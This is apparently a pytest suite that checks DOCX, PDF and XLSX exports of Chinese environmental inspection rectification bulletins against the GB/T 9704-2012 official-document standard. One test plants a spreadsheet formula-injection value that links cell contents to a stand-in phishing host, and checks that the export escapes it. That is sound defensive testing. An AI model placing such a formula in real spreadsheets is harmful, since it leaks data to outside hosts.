"""The 通报 as a GB/T 9704-2012 公文: DOCX page, fonts and part order; PDF line breaks and annexes; numeric XLSX.

赣州 2022-12 (a city edition, with the charts and one edited section) and 江西 2022-12 (a province edition).
"""
import datetime as dt
import io
import subprocess

import numpy as np
import pytest
from docx import Document
from docx.oxml.ns import qn
from openpyxl import load_workbook
from PIL import Image

from envboard.briefing import build, document, exports, gongwen
from envboard.briefing.linebreak import PAGE_NUMBER, bad_line_starts

EDITED = "请各县（市、区）于2023年1月底前报送整改进展。"


def _edition(demo_db_path, scope):
    from envboard.core.db import open_reader

    con = open_reader(demo_db_path)
    try:
        return build.build_edition(con, scope, dt.date(2022, 12, 31))
    finally:
        con.close()


@pytest.fixture(scope="module")
def ganzhou(demo_db_path):
    ed = _edition(demo_db_path, "360700")
    ed["edits"] = {"requirements": EDITED}
    return ed, exports.export(ed, ["docx", "pdf", "xlsx"])


@pytest.fixture(scope="module")
def jiangxi(demo_db_path):
    ed = _edition(demo_db_path, "360000")
    return ed, exports.export(ed, ["pdf", "xlsx"], pngs={})


def _pdf_text(data: bytes, tmp_path, *args) -> str:
    path = tmp_path / "b.pdf"
    path.write_bytes(data)
    return subprocess.run(["pdftotext", *args, str(path), "-"], capture_output=True, text=True, check=True).stdout


def test_docx_is_a4_with_the_standard_margins_and_metadata(ganzhou):
    ed, out = ganzhou
    doc = Document(io.BytesIO(out["docx"]))
    for s in doc.sections:
        assert (round(s.page_width.mm), round(s.page_height.mm)) == (210, 297)
        assert [round(m.mm, 1) for m in (s.top_margin, s.left_margin, s.bottom_margin, s.right_margin)] == [37, 28, 35, 26]
    assert doc.core_properties.title == "赣州市2022年12月生态环境保护督察整改工作通报"
    assert doc.core_properties.author == ed["issuer"]["name"] != "python-docx"
    assert doc.settings.odd_and_even_pages_header_footer
    for footer in (doc.sections[0].footer, doc.sections[0].even_page_footer):
        assert footer.paragraphs[0].text == "—  —" and "PAGE" in footer._element.xml


def _fonts_of(run) -> dict:
    rf = run._r.rPr.find(qn("w:rFonts"))
    return {k.split("}")[1]: v for k, v in rf.attrib.items()}


def test_docx_names_the_standard_fonts_with_east_asian_attributes(ganzhou):
    _, out = ganzhou
    doc = Document(io.BytesIO(out["docx"]))
    paras = {p.text: p for p in reversed(doc.paragraphs) if p.text}   # the first of equal texts
    mark = paras["赣州市生态环境保护督察整改工作领导小组办公室"].runs[0]
    assert _fonts_of(mark)["eastAsia"] == "方正小标宋简体" and str(mark.font.color.rgb) == "FF0000"
    title = paras["赣州市2022年12月\n生态环境保护督察整改工作通报"].runs[0]     # broken after the month, not inside a word
    assert _fonts_of(title)["eastAsia"] == "方正小标宋简体" and title.font.size.pt == 22
    heading = paras["一、督察整改销号情况"].runs[0]
    assert _fonts_of(heading)["eastAsia"] == "黑体" and heading.font.size.pt == 16
    body = next(p for t, p in paras.items() if t.startswith("截至2022年12月底，赣州市需销号管理问题320个"))
    fonts = _fonts_of(body.runs[0])
    assert fonts["eastAsia"] == fonts["ascii"] == fonts["hAnsi"] == "仿宋_GB2312" and "eastAsiaTheme" not in fonts
    assert body.runs[0].font.size.pt == 16 and body.paragraph_format.first_line_indent.pt == 32
    normal = doc.styles["Normal"].element.rPr.rFonts
    assert normal.get(qn("w:eastAsia")) == "仿宋_GB2312" and normal.get(qn("w:asciiTheme")) is None


def test_docx_parts_come_in_the_standards_order(ganzhou):
    ed, out = ganzhou
    doc = Document(io.BytesIO(out["docx"]))
    texts = [p.text for p in doc.paragraphs if p.text.strip()]
    year = dt.date.today().year

    def at(predicate):
        return next(i for i, t in enumerate(texts) if predicate(t))

    order = [at(lambda t: t == "赣州市生态环境保护督察整改工作领导小组办公室"),          # 版头: 发文机关标志
             at(lambda t: t == f"赣州督改办〔{year}〕\u3000号"),                         # 发文字号 (draft: no 顺序号)
             at(lambda t: t.replace("\n", "") == build.doc_title(ed)),                   # 主体: 标题
             at(lambda t: t == "各县（市、区）人民政府，市直有关单位："),                  # 主送机关
             at(lambda t: t == "一、督察整改销号情况"),
             at(lambda t: t == EDITED),
             at(lambda t: t.startswith("附件：1. 主要指标")),
             at(lambda t: t == gongwen.cn_date(dt.date.today())),                          # 成文日期
             at(lambda t: t.startswith("（数据截至2022年12月31日")),                       # 附注
             at(lambda t: t == "附件1"), at(lambda t: t == "附件11"),
             at(lambda t: t.startswith("抄送：")), at(lambda t: t.endswith("印发"))]          # 版记
    assert order == sorted(order)
    assert texts[-1] == f"{ed['issuer']['name']}\t{gongwen.cn_date(dt.date.today())}印发"
    assert len(doc.tables) == 11 and len(doc.inline_shapes) == 2
    closure = doc.tables[1]
    assert [c.text for c in closure.rows[1].cells][:5] == ["1", "赣州市", "91.9%", "294", "320"]


def test_record_is_laid_out_once_for_docx_and_pdf(ganzhou):
    """版记 (7.4): 抄送 under a thick rule, 印发机关/日期 under a thin one, a thick rule below; without 抄送
    the 印发 row opens with the thick rule. The DOCX draws it as paragraph borders (eighths of a point)."""
    rows = gongwen.record_rows("抄送：赣州市生态环境局。", "办公室", "2024年3月5日印发")
    assert [(r.kind, r.rule_above) for r in rows] == [("copy", "thick"), ("printed", "thin")]
    assert [(r.kind, r.rule_above) for r in gongwen.record_rows("", "办公室", "2024年3月5日印发")] == [("printed", "thick")]
    ed, out = ganzhou
    doc = Document(io.BytesIO(out["docx"]))
    copy, printed = [p for p in doc.paragraphs if p.text.strip()][-2:]

    def borders(p):
        bdr = p._p.pPr.find(qn("w:pBdr"))
        return {el.tag.split("}")[1]: int(el.get(qn("w:sz"))) for el in bdr}

    assert copy.text == document.copy_to(ed) and borders(copy) == {"top": 8, "bottom": 6}
    assert borders(printed) == {"bottom": 8}


def test_dates_and_numbers_follow_the_standard():
    assert gongwen.cn_date(dt.date(2024, 3, 5)) == "2024年3月5日"
    assert gongwen.doc_number("赣州督改办", 2024, 12) == "赣州督改办〔2024〕12号"
    issued = [{"number": {"prefix": "赣州督改办", "year": 2024, "n": 3}}, {"number": {"prefix": "赣州督改办", "year": 2023, "n": 9}},
              {"number": {"prefix": "江西督改办", "year": 2024, "n": 7}}, {"number": None}]
    assert gongwen.next_number(issued, "赣州督改办", 2024) == 4
    assert gongwen.next_number(issued, "赣州督改办", 2025, start=10) == 10


def test_issuer_settings_come_from_the_issuers_file(tmp_path):
    path = tmp_path / "issuers.toml"
    path.write_text('[scope."360700"]\nname = "赣州市生态环境局"\nnumber_prefix = "赣市环"\ncopy_to = ["市委办公室"]\n',
                    encoding="utf-8")
    issuer = gongwen.issuer_for("360700", "赣州市", "city", path)
    assert (issuer.name, issuer.number_prefix, issuer.copy_to) == ("赣州市生态环境局", "赣市环", ["市委办公室"])
    assert issuer.main_to == ["各县（市、区）人民政府", "市直有关单位"]          # default kept
    assert gongwen.issuer_for("360100", "南昌市", "city", path).number_prefix == "南昌督改办"


@pytest.mark.parametrize("edition", ["ganzhou", "jiangxi"])
def test_pdf_lines_obey_the_line_break_rules(edition, request, tmp_path):
    ed, out = request.getfixturevalue(edition)
    for mode in ([], ["-layout"]):
        lines = _pdf_text(out["pdf"], tmp_path, *mode).splitlines()
        assert bad_line_starts(lines) == []
        assert len(lines) > 200


def test_pdf_has_metadata_a4_pages_fonts_and_page_numbers(ganzhou, tmp_path):
    ed, out = ganzhou
    path = tmp_path / "b.pdf"
    path.write_bytes(out["pdf"])
    info = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True, check=True).stdout
    assert "Title:           赣州市2022年12月生态环境保护督察整改工作通报" in info
    assert f"Author:          {ed['issuer']['name']}" in info and "x 841.89 pts (A4)" in info
    fonts = subprocess.run(["pdffonts", str(path)], capture_output=True, text=True, check=True).stdout
    assert {"ARPLSungtiLGB", "ARPLKaitiMGB", "NotoSerifCJKSCBold", "NotoSansCJKSCBold"} >= {
        ln.split("+")[1].split()[0] for ln in fonts.splitlines()[2:]} >= {"ARPLSungtiLGB", "NotoSerifCJKSCBold", "NotoSansCJKSCBold"}
    text = _pdf_text(out["pdf"], tmp_path)
    assert "— 1 —" in text and "— 2 —" in text
    flat = text.replace("\n", "")
    assert "销号率91.9%" in flat and EDITED in flat


def test_pdf_annexes_are_numbered_listed_and_empty_tables_say_none(ganzhou, tmp_path):
    ed, out = ganzhou
    lines = [ln.strip() for ln in _pdf_text(out["pdf"], tmp_path).splitlines()]
    lines = [ln for ln in lines if not PAGE_NUMBER.fullmatch(ln)]
    items = document.annexes(ed)
    assert [a.number for a in items] == list(range(1, 12))
    heads = [ln for ln in lines if ln.startswith("附件") and ln[2:].isdigit()]
    assert heads == [f"附件{n}" for n in range(1, 12)]
    listed = "".join(lines[lines.index(next(ln for ln in lines if ln.startswith("附件：1."))):])
    for a in items:
        assert f"{a.number}. {a.title}" in listed.replace("\n", "")
    units = next(a for a in items if a.title.startswith("逾期及临期整改任务"))
    assert list(units.frame.iloc[0])[0] == "无"          # 赣州 has no overdue or at-risk task
    page_of_units = lines[lines.index(f"附件{units.number}"):]
    assert "无" in page_of_units[:40]


def test_pdf_page_one_has_the_red_mark_and_rule(ganzhou, tmp_path):
    _, out = ganzhou
    path = tmp_path / "b.pdf"
    path.write_bytes(out["pdf"])
    subprocess.run(["pdftoppm", "-png", "-r", "40", "-f", "1", "-l", "1", str(path), str(tmp_path / "p")], check=True)
    rgb = np.asarray(Image.open(next(tmp_path.glob("p*.png"))).convert("RGB")).astype(int)
    red = int(((rgb[..., 0] > 200) & (rgb[..., 1] < 90) & (rgb[..., 2] < 90)).sum())
    assert red > 300


def test_xlsx_stores_numbers_with_formats(ganzhou):
    _, out = ganzhou
    wb = load_workbook(io.BytesIO(out["xlsx"]))
    assert wb.sheetnames == ["通报正文", "附件1 主要指标", "附件2 销号率", "附件3 逾期任务", "附件4 信访办结率",
                             "附件5 空气综合指数", "附件6 优良天数比例", "附件7 重污染天数", "附件8 水质优良比例",
                             "附件9 按责任单位汇总", "附件10 督办问责", "附件11 当月督办问责", "逾期及临期任务"]
    ws = wb["附件2 销号率"]
    assert ws["A1"].value.startswith("附件2　各市销号率（截至12月底）")
    assert ws["A2"].value.startswith("数据截至2022年12月31日") and "数据来源" not in ws["A2"].value
    assert "台账" in ws["A3"].value and ws.freeze_panes == "A6"
    gz = next(r for r in ws.iter_rows(min_row=6) if r[2].value == "赣州市")
    assert (gz[0].value, gz[3].value, gz[3].number_format, gz[4].value, gz[4].number_format) == (1, 0.919, "0.0%", 294, "#,##0")
    assert gz[8].value == 39.3 and gz[8].data_type == "n"
    assert ws.column_dimensions["C"].width >= 8
    head = wb["附件1 主要指标"]
    good = next(r for r in head.iter_rows(min_row=6) if r[0].value == "优良天数比例")
    assert good[1].value == "1—12月累计" and good[2].number_format == "0.0%" and good[6].value is not None
    assert any(EDITED == r[1] for r in wb["通报正文"].iter_rows(values_only=True))


def test_xlsx_never_writes_a_formula_from_imported_text(demo_db_path):
    ed = _edition(demo_db_path, "360300")
    ed["watchlist"][0]["responsible_unit"] = '=HYPERLINK("http://phish.example/"&A1,"点击查看")'
    wb = load_workbook(io.BytesIO(exports.export(ed, ["xlsx"], pngs={})["xlsx"]))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + ed["watchlist"][0]["responsible_unit"] for c in cells)


def test_province_edition_keeps_same_named_units_of_different_cities_apart(jiangxi):
    ed, out = jiangxi
    wb = load_workbook(io.BytesIO(out["xlsx"]))
    rows = [r for r in wb["附件9 按责任单位汇总"].iter_rows(min_row=6, values_only=True)]
    units = [(city, unit) for city, unit, *_ in rows]
    assert len(units) == len(set(units))
    eco = [city for city, unit in units if unit == "市生态环境局"]
    assert len(eco) > 1                                   # one row per city, not one merged row
    overdue = next(s["body"] for s in ed["sections"] if s["key"] == "overdue")
    assert "萍乡市住房和城乡建设局" in overdue and "市市" not in overdue


def test_unknown_format_is_a_usage_error():
    from envboard.core.errors import UsageError

    with pytest.raises(UsageError):
        exports.parse_formats("docx,odt")
